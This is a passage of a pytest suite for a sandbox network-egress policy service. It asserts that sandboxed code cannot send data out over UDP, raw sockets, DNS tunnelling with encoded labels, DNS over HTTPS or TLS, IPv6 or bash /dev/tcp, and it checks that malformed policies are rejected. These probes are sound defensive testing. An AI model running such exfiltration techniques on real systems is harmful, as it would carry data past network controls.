                           (socket.SOCK_RAW, 255), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 17), (socket.SOCK_RAW, 47),
                           (socket.SOCK_RAW, 4), (socket.SOCK_RAW, 41), (socket.SOCK_RAW, 50), (socket.SOCK_SEQPACKET, 132)):
        attempt(lambda: socket.socket(family, kind, protocol), (host, 0))
for name in ("lo", "out", "eth0"):
    attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3), (name, 0x0800))
print("tried")
""" % (internet.WEB, internet.WEB6)


@pytest.mark.parametrize("user", ["user", "root"])
def test_nothing_but_tcp(stack, open_box, user):
    """UDP, ICMP, raw, packet sockets: nothing of it is on the wire, from root or user, whatever the policy."""
    wire = Wire(stack.networks)
    assert open_box.write("/tmp/doors.py", DOORS.encode()).status == 200
    assert open_box.run("python3 /tmp/doors.py", user=user, timeout=120).out == "tried\n"
    time.sleep(0.2)
    # cay-egress may still end a connection of a test before.
    assert not [packet for packet in wire.seen() if packet[0] != 6 or b"exfiltrated" in packet[2]]

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"exfiltrated", (internet.WEB, 443))
    internet.inside(stack.networks.host, send)
    time.sleep(0.2)
    assert [(17, 443)] == [packet[:2] for packet in wire.seen()]  # the control


def question(name, kind):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def test_questions_carry_nothing_out(stack, public, web_only):
    """Neither to the resolver inside, nor to one outside, over UDP or TCP, of any type."""
    wire = Wire(stack.networks)
    names = [f"c2vjcmv0-{i}.web.example.com" for i in range(40)]
    program = "import socket\nfor to in ('198.18.0.1', '8.8.8.8', '%s'):\n" % internet.OTHER + \
              " for q in %r:\n" % [question(n, k) for n, k in zip(names, itertools.cycle((1, 28, 16, 10, 255, 65, 15)))] + \
              "  with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.settimeout(5); s.sendto(q, (to, 53)); s.recv(4096)\n" \
              "  with socket.create_connection((to, 53), 5) as s: s.sendall(len(q).to_bytes(2, 'big') + q); assert s.recv(2)\n" \
              "print('asked')"
    for one in (public, web_only):
        assert one.write("/tmp/ask.py", program.encode()).status == 200
        r = one.run("python3 /tmp/ask.py")
        assert r.out == "asked\n", r.stderr.decode()
    assert not [p for p in wire.seen() if p[1] == 53] and "c2vjcmv0" not in stack.networks.asked()
    web_only.run("curl -sS --max-time 20 http://c2vjcmv0-denied.web.example.com/")
    assert "c2vjcmv0" not in stack.networks.asked()
    public.run("curl -sS --max-time 20 http://c2vjcmv0-allowed.web.example.com/")
    assert "c2vjcmv0-allowed" in stack.networks.asked()  # the control: an allowed connection is what asks


def test_resolvers_by_other_names(stack, web_only, public):
    """DNS over HTTPS and over TLS are connections as others are."""
    wire = Wire(stack.networks)
    for url in (f"https://{internet.DNS}/dns-query", f"https://{internet.DNS}:853/", "https://dns.google/dns-query"):
        assert "egress_denied" in web_only.run(f"curl -sSk --max-time 20 {url}").out, url
    assert not wire.seen()
    assert fetch(public, f"https://{internet.DNS}/dns-query", "-k")["path"] == "/dns-query"  # the control


def test_ipv6_is_no_open_side(web_only, public):
    for url in (f"http://[{internet.WEB6}]/", f"http://[::ffff:{internet.WEB}]/"):
        assert "egress_denied" in web_only.run(f"curl -sS -g --max-time 20 '{url}'").out
    assert web_only.run(f"timeout 5 bash -c 'exec 3<>/dev/tcp/{internet.WEB6}/{internet.BANNER_PORT}; head -1 <&3'").out == ""
    assert fetch(public, f"'http://[{internet.WEB6}]/'", "-g")["address"] == internet.WEB6


def test_ssh_and_git_do_not_go_past(web_only, public):
    for port in (22, 9418):
        assert web_only.run(f"timeout 5 bash -c 'exec 3<>/dev/tcp/other.example.net/{port}; head -1 <&3'").out == ""
    assert "stand-in" in public.run("timeout 5 bash -c 'exec 3<>/dev/tcp/other.example.net/22; head -1 <&3'").out


# -- configuration -----------------------------------------------------------------------------------

def test_nothing_said_is_nothing_allowed(stack):
    with stack.cay.create() as one:
        place = stack.place(one)
        assert answered(one.run("curl -sS --max-time 20 http://web.example.com/").out)  # the control
        for policy in ({}, {"rules": []}, {"presets": []}, {"default": "deny", "rules": [], "presets": []},
                       {"rules": [{"action": "deny", "domains": ["other.example.net"]}]}):
            assert stack.put(one, EVERYTHING, EVERYTHING, place)[0] == 204
            status, text = stack.put(one, policy, None, place)
            assert status in (204, 400), text
            if status == 204:
                assert "egress_denied" in one.run("curl -sS --max-time 20 http://web.example.com/").out, policy


def test_a_policy_with_a_mistake_is_refused_whole(stack):
    rule = {"action": "allow", "domains": ["web.example.com"]}
    with stack.cay.create() as one:
        place = stack.place(one)
        assert stack.put(one, {"rules": [rule]}, None, place)[0] == 204
        for bad, where in (({"rulez": []}, "rulez"), ({"rules": [{**rule, "domain": "x"}]}, "rules[0]"),
                           ({"rules": [{**rule, "domains": []}]}, "rules[0].domains"), ({"rules": [rule, {**rule, "ports": ["0-x"]}]}, "rules[1].ports"),
                           ({"default": "Allow"}, "default"), ({"default": True}, "default"), ({"presets": ["pkg"]}, "presets[0]"),
                           ({"rules": {}}, "rules"), ({"rules": [{**rule, "addresses": ["10.0.0.1/8"]}]}, "rules[0].addresses[0]"),
                           ({"rules": [{"action": "allow", "domains": ["*"]}]}, "rules[0].domains[0]"),
                           ({"rules": [{"action": "allow", "addresses": ["0x7f.1"]}]}, "rules[0].addresses[0]"),
                           ({"rules": [rule] * 1025}, "rules"), ({"limits": {"bytes": -1}}, "limits")):
            status, text = stack.put(one, bad, None, place)
            assert status == 400 and where in text, (bad if len(str(bad)) < 500 else where, status, text)
            assert fetch(one, "http://web.example.com/")["path"] == "/"
            assert "egress_denied" in one.run("curl -sS --max-time 20 http://other.example.net/").out
        path = f"/sandboxes/{one.id}/network"
        for bad in ({"allowOut": "web.example.com"}, {"allowOut": [1]}, {"denyOut": ["web example"]}, {"allowOut": ["a" * 300]}):
            assert stack.cay.call("PUT", path, bad).status == 400, bad


@pytest.mark.parametrize("own", ["deny", "public", "allow"])
@pytest.mark.parametrize("ceiling", ["deny", "public", "allow"])
def test_presets_under_ceilings(stack, own, ceiling):
    """The reach is what both have; metadata never is."""
    order = ("deny", "public", "allow")
    least = order[min(order.index(own), order.index(ceiling))]
    with stack.cay.create() as one:
        assert stack.put(one, {"default": own}, {"default": ceiling})[0] == 204
        for host, needed in ((internet.WEB, 1), ("web.example.com", 1), (internet.PRIVATE, 2), ("inside.example.com", 2),
                             (internet.METADATA, 3), ("meta.example.com", 3)):
            out = one.run(f"curl -sS --max-time 20 http://{host}/").out
            assert answered(out) == (order.index(least) >= needed), (host, out)
            assert answered(out) or "egress_denied" in out


CONNECTIONS = 1000
HOLD = """
import resource, select, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
poll, kinds = select.epoll(), {}
names = ("web.example.com", "other.example.net")
addresses = {name: socket.getaddrinfo(name, 1, socket.AF_INET)[0][4][0] for name in names}
for n in range(%d):
    name = names[n %% 2]
    s = socket.create_connection((addresses[name], %d), 60)
    s.sendall(b"hello\\n")
    kinds[s.fileno()] = s, name
for s, _ in kinds.values():
    assert s.recv(6) == b"hello\\n"
    poll.register(s, select.EPOLLIN | select.EPOLLRDHUP)
print("open", len(kinds), flush=True)
cut = {"web.example.com": 0, "other.example.net": 0}
end = time.monotonic() + 60
while cut["other.example.net"] < len(kinds) // 2 and time.monotonic() < end:
    for fd, _ in poll.poll(1):
        cut[kinds[fd][1]] += 1
        poll.unregister(fd)
for s, name in kinds.values():
    if name == "web.example.com":
        s.sendall(b"again")
        assert s.recv(5) == b"again"
print("cut", cut["web.example.com"], cut["other.example.net"], flush=True)
""" % (CONNECTIONS, internet.ECHO_PORT)


def test_a_thousand_connections_at_a_change(stack):
    """Those that are denied now are cut, all of them; the others are not disturbed."""
    with stack.cay.create(network={"denyOut": ["0.0.0.0/0"], "allowOut": ["web.example.com", "other.example.net"]}) as one:
        assert one.write("/tmp/hold.py", HOLD.encode()).status == 200
        result = []
        thread = threading.Thread(target=lambda: result.append(one.run("python3 /tmp/hold.py > /tmp/held 2>&1; cat /tmp/held",
                                                                       timeout=240)))
        thread.start()

        def all_open():
            seen = one.run("cat /tmp/held").out
            assert "rror" not in seen, seen
            return "open 1000" in seen

        until(all_open, 100, lambda: "1000 connections: " + one.run("cat /tmp/held").out, every=0.2)
        assert stack.cay.call("PUT", f"/sandboxes/{one.id}/network", WEB_ONLY).status == 204
        thread.join()
        assert result[0].out == "open 1000\ncut 0 500\n", result[0].out


# -- the server's own ceiling ------------------------------------------------------------------------

@pytest.mark.parametrize("ceiling,reached", [("deny", {}), ("allow", {"web.example.com", internet.PRIVATE})])
def test_the_operators_ceiling(ceiling, reached):
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    # The third server at a time: where processes of a user are few, its user has to be another.
    s = Stack(cayd_args=(f"--egress-ceiling={ceiling}",), user="nobody")
    try:
        with s.cay.create(network={"allowOut": ["web.example.com", f"{internet.PRIVATE}/32", f"{internet.METADATA}/32"],
                                   "denyOut": ["0.0.0.0/0"]}) as one:
            for host in ("web.example.com", internet.PRIVATE, internet.METADATA, "other.example.net"):
                out = one.run(f"curl -sS --max-time 20 http://{host}/").out
                assert answered(out) == (host in reached), (host, out)
                assert answered(out) or "egress_denied" in out
    finally:
        s.close()
